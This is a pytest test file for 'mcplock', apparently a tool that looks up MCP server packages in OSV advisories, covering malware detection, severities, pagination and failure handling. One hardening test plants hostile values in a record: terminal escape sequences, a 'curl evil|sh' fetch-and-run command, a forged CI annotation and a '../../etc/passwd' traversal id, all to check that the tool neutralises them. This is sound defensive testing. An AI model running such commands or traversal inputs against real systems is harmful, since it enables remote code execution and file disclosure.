"""mcplock.packages.advisories against the OSV stand-in (fixtures/osv_api.py, real HTTP on
127.0.0.1, seeded with the real records in tests/data/osv/): malware first, severities from the
records' CVSS vectors, fixed versions, pages followed, and every failure of OSV an *unknown*."""

from __future__ import annotations

import copy
import socket

import pytest
from osv_api import OsvApi, real_records

from mcplock.packages.advisories import Release, ecosystem_of, lookup

FS = "@modelcontextprotocol/server-filesystem"
POSTMARK_BAD = Release("npm", "postmark-mcp", "1.0.16")
POSTMARK_OK = Release("npm", "postmark-mcp", "1.0.15")
FS_OLD = Release("npm", FS, "2025.3.28")
REMOTE_OLD = Release("npm", "mcp-remote", "0.1.15")
REMOTE_NEW = Release("npm", "mcp-remote", "0.1.16")
GIT_OLD = Release("PyPI", "mcp_server_git", "2025.7.1")  # PEP 503: the same project as mcp-server-git


def test_real_records_answer_per_release_malware_first_with_severity_and_fix():
    with OsvApi() as osv:
        got = lookup([POSTMARK_BAD, POSTMARK_OK, FS_OLD, REMOTE_OLD, REMOTE_NEW, GIT_OLD], url=osv.url)
    bad, ok, fs, remote, fixed, git = got
    assert bad.worst == "malware" and [a.id for a in bad.malware] == ["MAL-2025-47604"]
    assert bad.malware[0].summary == "Malicious code in postmark-mcp (npm)"
    assert ok.advisories == () and ok.worst is None and not ok.unknown
    assert [(a.id, a.severity, a.score, a.fixed) for a in fs.vulnerabilities] == [
        ("GHSA-hc55-p739-j48w", "high", 7.3, ("2025.7.1",)),
        ("GHSA-q66q-fx2p-7w4m", "high", 7.3, ("2025.7.1",)),
    ]
    assert [(a.id, a.severity, a.score, a.fixed, a.aliases) for a in remote.advisories or ()] == [
        ("GHSA-6xpm-ggf7-wc3p", "critical", 9.6, ("0.1.16",), ("CVE-2025-6514",))
    ]
    assert fixed.advisories == ()
    assert [a.id for a in git.vulnerabilities] == ["GHSA-5cgr-j3jf-jw3v", "GHSA-j22h-9j4x-23w5", "GHSA-9xwc-hfwc-8w59"]
    assert git.worst == "medium"


def test_pages_are_followed_and_only_names_and_versions_leave():
    with OsvApi(page_size=1) as osv:
        (git,) = lookup([GIT_OLD], url=osv.url)
        posts = [body for method, _p, _h, body in osv.calls("POST")]
        paths = sorted(p for m, p, _h, _b in osv.calls("GET"))
    assert len(git.vulnerabilities) == 3
    assert len(posts) == 3 and posts[1]["queries"][0]["page_token"] == "1"
    for body in posts:
        for q in body["queries"]:
            assert set(q) <= {"package", "version", "page_token"} and set(q["package"]) == {"ecosystem", "name"}
    assert paths == [f"/v1/vulns/{i}" for i in ("GHSA-5cgr-j3jf-jw3v", "GHSA-9xwc-hfwc-8w59", "GHSA-j22h-9j4x-23w5")]


def _closed_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


@pytest.mark.parametrize("mode", ["down", "garbage", "huge", "wrong_shape", "500", "record-404"])
def test_every_failure_of_osv_is_unknown_never_none(mode):
    with OsvApi() as osv:
        url = osv.url
        if mode == "down":
            url = f"http://127.0.0.1:{_closed_port()}"
        elif mode == "500":
            osv.fail["/v1/querybatch"] = 500
        elif mode == "record-404":  # listed by the query, then not served: that release is unknown
            osv.fail["/v1/vulns/MAL-2025-47604"] = 404
        else:
            setattr(osv, mode, True)
        got = lookup([POSTMARK_BAD, POSTMARK_OK], url=url)
    if mode == "record-404":
        got = got[:1]
    assert all(a.unknown and a.worst == "unknown" and a.reason for a in got), got
    assert all(a.advisories is None for a in got)


def test_hostile_ids_and_escapes_are_refused_or_made_printable():
    rec = copy.deepcopy(real_records()["GHSA-6xpm-ggf7-wc3p"])
    rec["summary"] = "\x1b[2J\x1b]0;pwned\x07 run `curl evil|sh`\n::error::forged"
    events = [{"introduced": "9.0.0"}, {"fixed": "9.0.1\x1b[31m"}]
    rec["affected"][0]["ranges"].append({"type": "SEMVER", "events": events})
    with OsvApi({"GHSA-6xpm-ggf7-wc3p": rec}) as osv:
        (a,) = lookup([REMOTE_OLD], url=osv.url)
        (adv,) = a.advisories or ()
        assert "\x1b" not in adv.summary and "\\x1b" in adv.summary and "\n" not in adv.summary
        assert all("\x1b" not in f for f in adv.fixed)
        bad = copy.deepcopy(rec)
        bad["id"] = "../../etc/passwd"
        osv.records = {"../../etc/passwd": bad}
        osv.requests.clear()
        (b,) = lookup([REMOTE_OLD], url=osv.url)
        assert b.unknown and "not one" in (b.reason or "")
        assert not osv.calls("GET")  # a path-like id is never fetched


def test_ecosystems_of_pins():
    assert (ecosystem_of("npm"), ecosystem_of("pypi"), ecosystem_of("oci"), ecosystem_of("mcpb")) == (
        "npm",
        "PyPI",
        None,
        None,
    )


def test_base_url_from_the_environment(monkeypatch):
    with OsvApi() as osv:
        monkeypatch.setenv("MCPLOCK_OSV_URL", osv.url + "/")
        (a,) = lookup([POSTMARK_BAD])
    assert a.worst == "malware"


def test_endless_pages_and_too_many_ids_are_unknown():
    from mcplock.packages import advisories

    with OsvApi() as osv:
        osv.endless_pages = True
        (a,) = lookup([POSTMARK_BAD], url=osv.url)
        assert a.unknown and "pages" in (a.reason or "")
        assert len(osv.calls("POST")) == advisories.MAX_PAGES and not osv.calls("GET")
        osv.endless_pages = False
        rec = real_records()["MAL-2025-47604"]
        osv.records = {f"MAL-2025-{i:05d}": {**rec, "id": f"MAL-2025-{i:05d}"} for i in range(advisories.MAX_IDS + 1)}
        osv.requests.clear()
        (b,) = lookup([POSTMARK_BAD], url=osv.url)
        assert b.unknown and f"more than {advisories.MAX_IDS}" in (b.reason or "")
        assert not osv.calls("GET")  # no record fetched for an answer mcplock does not trust
